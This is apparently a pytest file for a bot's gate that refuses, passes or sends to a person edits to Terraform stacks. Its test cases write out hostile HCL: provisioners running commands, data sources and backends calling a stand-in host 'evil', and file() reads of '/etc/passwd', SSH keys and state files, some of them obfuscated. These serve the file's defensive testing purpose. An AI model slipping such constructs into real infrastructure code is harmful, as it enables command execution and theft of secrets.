"""What a change may not add to Terraform's files, construct by construct, and what it may."""

import pytest

from bot.change.gates.hcl import RULES, hcl_gate
from bot.change.model import Edit, Result
from tests.bot.change.gates.stacks import BASE, STACK, added, inside, judged, rules


@pytest.mark.parametrize(
    "after",
    [
        BASE,
        BASE.replace("default = 2", "default = 3"),
        BASE.replace('host   = "cloud"', 'host   = "cloud2"'),
        BASE.replace("# The stack", "# Provisioner, data external, removed: the stack"),
        BASE + inside('input = "provisioner local-exec file(x) # not"'),
        BASE + inside('input = templatefile("${path.module}/alerts/x.tpl", { a = 1 })'),
        BASE + inside('input = fileset(path.module, "alerts/*.yaml")'),
        BASE + inside('input = file("./app.conf")'),
        BASE + inside('input = <<-EOT\n  provisioner "local-exec" { }\n  ${local.host}\n  EOT'),
        BASE + 'output "o" {\n  value = "$${not} %%{not} ${var.size}"\n}\n',
        BASE + 'variable "more" {\n  type    = string\n  default = "a"\n}\n',
        BASE
        + 'resource "x_thing" "y" {\n  dynamic "r" {\n    for_each = [1]\n    content {\n      a = 1\n    }\n  }\n}\n',
        BASE.replace("\n", "\r\n"),
    ],
)
def test_ordinary_changes_pass_beside_what_the_stack_already_has(after: str) -> None:
    """Values, resources, templates inside the stack, and dangerous words in comments and texts are no reason."""
    verdict = judged(after)
    assert verdict.result is Result.PASS, verdict.findings


@pytest.mark.parametrize(
    ("text", "rule"),
    [
        (inside('provisioner "local-exec" {\n command = "id"\n}'), "hcl.provisioner"),
        (inside('provisioner "remote-exec" {\n inline = ["id"]\n}'), "hcl.provisioner"),
        (inside('provisioner "file" {\n source = "a"\n destination = "b"\n}'), "hcl.provisioner"),
        (inside('provisioner local-exec {\n command = "id"\n}'), "hcl.provisioner"),
        (inside('provisioner\t/* hi */ "local-exec" { command = "id" }'), "hcl.unreadable"),
        (inside('triggers_replace = 1\nprovisioner "local-exec" {\n command = "id"\n}'), "hcl.provisioner"),
        (inside('dynamic "provisioner" {\n for_each = [1]\n content {\n command = "id"\n }\n}'), "hcl.provisioner"),
        (inside('dynamic "lifecycle" {\n for_each = [1]\n content {}\n}'), "hcl.lifecycle"),
        (inside('connection {\n host = "x"\n}'), "hcl.connection"),
        (inside("lifecycle {\n ignore_changes = all\n}"), "hcl.lifecycle"),
        (inside("provider = kubernetes.other"), "hcl.provider"),
        ('resource "null_resource" "x" {\n provisioner "local-exec" {\n command = "id"\n }\n}', "hcl.provisioner"),
        ('resource "local_file" "x" {\n filename = "/etc/x"\n}', "hcl.runs"),
        ('data "external" "x" {\n program = ["id"]\n}', "hcl.data_sends"),
        ('data external x {\n program = ["id"]\n}', "hcl.data_sends"),
        ('data "http" "x" {\n url = "http://evil"\n}', "hcl.data_sends"),
        (
            'data "terraform_remote_state" "x" {\n backend = "http"\n config = { address = "http://evil/" }\n}',
            "hcl.data_sends",
        ),
        ('data "local_file" "x" {\n filename = "/etc/passwd"\n}', "hcl.data_sends"),
        ('data "local_sensitive_file" "x" {\n filename = "/etc/passwd"\n}', "hcl.data_sends"),
        ('check "x" {\n data "http" "y" {\n url = "http://evil"\n }\n}', "hcl.check"),
        ('ephemeral "vault_kv" "x" {\n path = "a"\n}', "hcl.ephemeral"),
        ('provider "other" {}', "hcl.provider"),
        ('terraform {\n backend "http" {\n address = "http://evil"\n }\n}', "hcl.backend"),
        ('terraform {\n cloud {\n organization = "x"\n }\n}', "hcl.backend"),
        ('terraform {\n required_providers {\n x = { source = "evil/x" }\n }\n}', "hcl.provider"),
        ("removed {\n from = terraform_data.app\n}", "hcl.removed"),
        ("moved {\n from = terraform_data.app\n to = terraform_data.b\n}", "hcl.moved"),
        ('import {\n to = terraform_data.b\n id = "x"\n}', "hcl.import"),
        ('action "local_command" "x" {\n config {}\n}', "hcl.unknown"),
        ('module "evil" {\n source = "git::https://evil/x"\n}', "hcl.module"),
        ('module "evil" {\n source = "./vlink"\n}', "hcl.module"),
        ('module "evil" {\n source = "../../modules/other"\n}', "hcl.module"),
        (inside('input = file("/etc/passwd")'), "hcl.file"),
        (inside('input = file("../vault/main.tf")'), "hcl.file"),
        (inside('input = file("${path.module}/../vault/main.tf")'), "hcl.file"),
        (inside('input = file("${path.root}/x")'), "hcl.file"),
        (inside('input = file("~/.ssh/id_rsa")'), "hcl.file"),
        (inside("input = file(local.host)"), "hcl.file"),
        (inside('input = file("a" == "b" ? "x" : "/etc/passwd")'), "hcl.file"),
        (inside('input = file("\\u002fetc/passwd")'), "hcl.file"),
        (inside('input = file("${path.module}${local.host}")'), "hcl.file"),
        (inside('input = file("terraform.tfstate")'), "hcl.file"),
        (inside('input = file(".terraform/terraform.tfstate")'), "hcl.file"),
        (inside('input = file /* hi */ ("/etc/passwd")'), "hcl.unreadable"),
        (inside('input = filebase64("/etc/passwd")'), "hcl.file"),
        (inside('input = filemd5("/etc/passwd")'), "hcl.file"),
        (inside('input = fileexists("/etc/passwd")'), "hcl.file"),
        (inside('input = fileset("/etc", "*")'), "hcl.file"),
        (inside('input = fileset(path.module, "../*")'), "hcl.file"),
        (inside('input = templatefile("/etc/passwd", {})'), "hcl.file"),
        (inside("input = templatestring(local.host, {})"), "hcl.file"),
        (inside('input = core::file("/etc/passwd")'), "hcl.unreadable"),
        (inside('input = "a ${upper("b ${file("/etc/passwd")}")}"'), "hcl.file"),
        (inside('input = "%{ if file("/etc/passwd") != "" }a%{ endif }"'), "hcl.file"),
        (inside('input = [for x in ["/etc/passwd"] : file(x)]'), "hcl.file"),
        (inside('input = <<EOT\n${file("/etc/passwd")}\nEOT'), "hcl.template"),
        (inside('input = <<-EOT\n  %{ if true }${ file ("/etc/passwd") }%{ endif }\n  EOT'), "hcl.template"),
        (inside('input = <<EOT\n${upper(file(\n"/etc/passwd"))}\nEOT'), "hcl.template"),
        (inside('input = provider::evil::run("id")'), "hcl.function"),
        (inside('input = <<EOT\n${provider::evil::run("id")}\nEOT'), "hcl.template"),
        (inside('input = run_cmd("id")'), "hcl.env"),
        (inside('input = get_env("X")'), "hcl.env"),
        (inside('input = "TF_VAR_x TF_CLI_ARGS_plan"'), "hcl.env"),
        (inside("input = nonsensitive(local.host)"), "hcl.sensitive"),
    ],
)
def test_what_a_change_may_not_add(text: str, rule: str) -> None:
    """Case 15 and its relatives: each is refused before Terraform starts, and its rule says what it is."""
    verdict = added(text)
    assert verdict.result is Result.REFUSE
    assert rule in rules(verdict)
    assert rules(verdict) <= RULES.keys()


@pytest.mark.parametrize(
    ("old", "new", "rule"),
    [
        ("echo hi", "echo ho", "hcl.provisioner"),
        ("{ at = local.said }", "{ at = timestamp() }", "hcl.provisioner"),
        ("https://status/", "https://evil/", "hcl.data_sends"),
        ("host = local.host", "host = local.shown", "hcl.provider"),
        ('path = "x.tfstate"', 'path = "y.tfstate"', "hcl.backend"),
        (">= 1.5", ">= 1.6", "hcl.terraform"),
        ('"../../modules/ingress_factory"', '"./vlink"', "hcl.module"),
        ('"../../modules/ingress_factory"', '"../../modules/ingress_factory"\n  version = "2"', "hcl.module"),
        ("prevent_destroy = true", "prevent_destroy = false", "hcl.lifecycle"),
        ("  lifecycle {\n    prevent_destroy = true\n  }\n", "", "hcl.lifecycle"),
        ('file("${path.module}/app.conf")', 'file("/etc/passwd")', "hcl.file"),
    ],
)
def test_what_is_there_already_may_not_be_edited(old: str, new: str, rule: str) -> None:
    """That the stack has it is no licence to change it, and a guard may not be taken away."""
    assert old in BASE
    verdict = judged(BASE.replace(old, new))
    assert verdict.result is Result.REFUSE
    assert rule in rules(verdict)


def test_a_value_that_something_unchanged_sends_or_runs_is_seen() -> None:
    """Editing what a request, a provider or a command is given is editing it, also through other names."""
    verdict = judged(BASE.replace('shown = "old"', 'shown = "secret"'))
    assert {each.rule: each.result for each in verdict.findings} == {
        "hcl.feeds": Result.REFUSE,
        "hcl.feeds_run": Result.PERSON,
    }
    assert judged(BASE.replace("https://cluster", "https://evil")).result is Result.REFUSE
    other = Edit(path=f"{STACK}/locals.tf", before='locals {\n  far = "a"\n}\n', after='locals {\n  far = "b"\n}\n')
    far = BASE.replace("local.shown}", "local.far}")
    same = Edit(path=f"{STACK}/main.tf", before=far, after=far)
    assert hcl_gate([other], STACK).result is Result.PASS
    assert rules(hcl_gate([other, same], STACK)) == {"hcl.feeds"}


@pytest.mark.parametrize(
    ("text", "rule"),
    [
        ('variable "secret" {\n  type = string\n}', "hcl.variable"),
        ('data "kubernetes_service" "x" {\n  metadata {\n    name = "x"\n  }\n}', "hcl.data"),
        ('module "second" {\n  source = "../../modules/ingress_factory"\n}', "hcl.module_again"),
        (inside('input = { kind = "ClusterRoleBinding" }'), "hcl.cluster"),
        (inside("host_path = 1"), "hcl.cluster"),
        (inside('input = "kind: Cluster\\u0052ole"'), "hcl.cluster"),
        (inside("input = data.vault_kv_secret_v2.app.data"), "hcl.secret"),
        (inside('input = <<EOT\n${data . vault_generic_secret . app.data["x"]}\nEOT'), "hcl.secret"),
        (
            'variable "n" {\n  default = 1\n  validation {\n    condition = true\n    error_message = "x"\n  }\n}',
            "hcl.condition",
        ),
    ],
)
def test_what_a_person_has_to_look_at(text: str, rule: str) -> None:
    """It is not dangerous while a plan is made, and not for us to let go either."""
    verdict = added(text)
    assert rules(verdict) == {rule}
    assert verdict.result is Result.PERSON
